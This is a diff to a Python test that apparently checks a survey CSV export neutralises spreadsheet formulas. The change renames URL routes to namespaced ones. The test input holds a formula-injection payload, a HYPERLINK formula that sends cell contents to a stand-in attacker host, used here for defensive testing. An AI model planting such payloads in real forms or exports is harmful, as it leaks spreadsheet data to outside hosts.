@@ -33,7 +33,8 @@ def test_survey_export_neutralises_formulas_in_every_column(client, team, world,
     services.survey_set_status(actor=pl, survey=survey, status="open")
     street = '=HYPERLINK("http://evil.example?"&A1;"klik")'
     answer_url = reverse(
-        "survey_answer", kwargs={"org": world.client.slug, "public_id": survey.public_id}
+        "recruitment:survey_answer",
+        kwargs={"org": world.client.slug, "public_id": survey.public_id},
     )
     posted = _form(
         survey,
@@ -48,7 +49,7 @@ def test_survey_export_neutralises_formulas_in_every_column(client, team, world,
     client.force_login(pl)
     export = client.get(
         reverse(
-            "survey_csv",
+            "recruitment:survey_csv",
             kwargs={
                 "org": world.client.slug,
                 "programme_pk": survey.programme_id,
